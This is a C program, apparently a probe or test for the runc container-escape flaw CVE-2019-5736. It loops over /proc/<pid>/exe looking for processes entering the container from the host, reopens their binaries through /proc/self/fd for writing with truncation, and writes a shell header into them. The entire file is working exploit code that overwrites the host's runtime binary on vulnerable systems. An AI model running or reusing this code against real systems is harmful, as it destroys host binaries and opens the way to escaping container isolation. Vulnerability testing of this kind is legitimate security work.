/* Tries to write to the program of every process that enters the guest (CVE-2019-5736). */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
int main(void)
{
	long tries = 0, seen = 0;
	pid_t self = getpid();
	struct stat own, other;
	stat("/proc/self/exe", &own);
	time_t end = time(NULL) + 6;
	while (time(NULL) < end) {
		for (int pid = 2; pid < 400; pid++) {
			char path[64];
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			if (pid == self || stat(path, &other) != 0 || other.st_dev == own.st_dev)
				continue;
			seen++;
			int fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
			for (int i = 0; i < 200; i++, tries++) {
				int out = open(path, O_WRONLY | O_TRUNC);
				if (out >= 0) {
					if (write(out, "#!/bin/sh\n", 10) > 0)
						puts("WRITTEN");
					close(out);
				}
			}
			close(fd);
		}
	}
	printf("%ld programs seen, %ld tries\n", seen, tries);
	return 0;
}
